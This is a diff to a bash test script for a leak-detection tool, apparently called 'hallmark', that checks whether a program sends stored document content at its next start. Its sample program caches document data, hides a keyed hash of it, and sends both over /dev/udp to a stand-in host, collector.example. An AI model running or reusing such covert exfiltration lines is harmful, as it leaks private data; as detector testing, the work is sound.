@@ -1,6 +1,7 @@
 #!/bin/bash
 # A program that keeps a digest of a document on disk, and sends at its next start what it finds there: nothing that one start sends depends on
-# content, and what the second sends does. A twin that always keeps the same has nothing to send, and is not started again.
+# content, and what the second sends does; also where what is kept is hidden under a key that was drawn. A twin that always keeps the same has nothing to
+# send, and is not started again.
 #   two-phase.sh BUILD
 set -u
 hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify") judge=$(realpath "$1/tests/judge_parts")
@@ -14,7 +15,8 @@ result() { # CONDITION-EXIT TEXT
 	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
 }
 "$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
-start='cd /var/lib; if [ -e cache ]; then printf "Cache: %%s\n" "$(cat cache)" >/dev/udp/collector.example/9000; fi; %s >cache; echo ran >/dev/udp/collector.example/9001'
+start='cd /var/lib; if [ -e cache ]; then printf "Cache: %%s\n" "$(cat cache)" >/dev/udp/collector.example/9000; fi; if [ -e hidden ]; then cat hidden >/dev/udp/collector.example/9002; fi
+%s >cache; (head -c 16 /dev/urandom; cat cache) | md5sum >hidden; echo ran >/dev/udp/collector.example/9001'
 assess() { # NAME COMMAND
 	timeout 500 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
 	sed 's/^/# /' "$work/$1.err" | head -n 5
@@ -28,7 +30,7 @@ whole = lambda row: row['constant'] + row['explained'] + row['unaccounted'] + su
 sys.exit(0 if $2 else 1)" "$work/$1.json"
 }
 verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said" && false || ! grep -q FALSE "$work/said" && grep -q 'sets, made again from the seed' "$work/said"; }
-refused() { # NAME CHANGE WHY: the bundle's core with the assessment `a` changed does not evaluate; `gone` are runs that are taken away
+refused() { # NAME CHANGE WHY: the bundle's core with assessment `a` and plan `p` changed does not evaluate; `gone` are runs that are dropped by `rule`
 	local gone
 	gone=$(/usr/bin/python3 -c "
 import json, sys, zipfile
@@ -38,12 +40,13 @@ kinds = lambda *kinds: [r['run'] for r in p['runs'] if r['kind'] in kinds]
 gone, rule = [], 'nothing kept'
 $2
 for member in ('runs', 'sets'):
-    a[member] = [row for row in a[member] if row['run'] not in gone]
+    a[member] = [row for row in a[member] if row['run'] not in gone and row['run'] <= len(p['runs'])]
 a['dropped'] = sorted([row for row in a['dropped'] if row['run'] not in gone] + [{'run': run, 'rule': rule} for run in gone], key=lambda row: row['run'])
-open(sys.argv[2], 'w').write(json.dumps(a, separators=(',', ':'), sort_keys=True, ensure_ascii=False))
-print(*('-runs/%04d/' % run for run in gone))" "$work/$1.hallmark" "$work/changed.json") || return 1
+for document, path in ((a, sys.argv[2]), (p, sys.argv[3])):
+    open(path, 'w').write(json.dumps(document, separators=(',', ':'), sort_keys=True, ensure_ascii=False))
+print(*('-runs/%04d/' % run for run in gone))" "$work/$1.hallmark" "$work/changed.json" "$work/planned.json") || return 1
 	# shellcheck disable=SC2086
-	"$judge" "$work/$1.hallmark" "assessment.json=$work/changed.json" $gone >"$work/judged"
+	"$judge" "$work/$1.hallmark" "assessment.json=$work/changed.json" "plan.json=$work/planned.json" $gone >"$work/judged"
 	[ $? = 1 ] && grep -q "$3" "$work/judged" && return 0
 	head -c 300 "$work/judged" | sed 's/^/# /'
 	return 1
@@ -54,8 +57,8 @@ ask leak "f['experiment']['send'] == 8"
 result $? "what a program kept makes it start again"
 ask leak "(content['verdict'], content['reason'], content['values']['stored']) == ('refuted', 'influence.confirmed', content['values']['features'])"
 result $? "... what it then sends depends on content"
-ask leak "[(i['endpoint'], i['feature'][:2], i['p']['phase']) for i in f['influence'] if i['endpoint'] != 'disk' and 'cache' in i['feature'].lower() or 'data' in i['feature']] == [('collector.example:9000/udp', '0.', 'send')]"
-result $? "... by the field that says it"
+ask leak "[(i['endpoint'], i['p']['phase']) for i in f['influence'] if i['endpoint'] != 'disk'] == [('collector.example:%d/udp' % port, 'send') for port in (9000, 9002)]"
+result $? "... by the field that says it, and by the one that hides it"
 ask leak "(kept['verdict'], kept['reason']) == ('refuted', 'residue.sent')"
 result $? "... and so what it keeps is refuted"
 ask leak "all(whole(row) == row['wire'] for row in f['ledger']) and {row['endpoint'] for row in f['ledger']} >= {'collector.example:9000/udp', 'collector.example:9001/udp'}"
@@ -75,6 +78,16 @@ refused leak "gone = kinds('confirm')[-2:]" "by a rule that does not exist"
 result $? "... nor use that rule for other runs"
 refused leak "of = {row['run']: row for row in a['sets']}; of[kinds('send')[0]]['set'], of[kinds('send')[1]]['set'] = of[kinds('store')[0]]['set'], of[kinds('store')[1]]['set']" "other documents than it should"
 result $? "... nor give the later runs the documents that differ"
+refused leak "p['blocks'].pop(); p['runs'] = p['runs'][:-2]" "nothing is sent of what the last block kept"
+result $? "... nor plan to keep what is never sent"
+refused leak "for run in p['runs'][-4:]: run['kind'] = 'store' if run['kind'] == 'send' else 'send'
+for row in a['runs'][-4:]: row['kind'] = 'store' if row['kind'] == 'send' else 'send'
+for block in p['blocks'][-2:]: block['phase'] = 'store' if block['phase'] == 'send' else 'send'" "not in the order of phases"
+result $? "... nor to send what is kept later"
+refused leak "cut = len(p['blocks']) - 2 * 7; p['blocks'] = [b for b in p['blocks'] if b['phase'] not in ('store', 'send')] + p['blocks'][-14:]
+for n, block in enumerate(p['blocks'], 1): block['block'], block['runs'] = n, [2 * n - 1, 2 * n]
+p['runs'] = p['runs'][:2 * len(p['blocks'])]" "too few send blocks"
+result $? "... nor to try it less often than it takes"
 
 assess twin "$(printf "$start" 'wc -c </srv/documents/note*; echo scanned')"
 ask twin "f['experiment']['send'] == 0 and (kept['verdict'], kept['reason']) == ('upheld', 'residue.equal')"
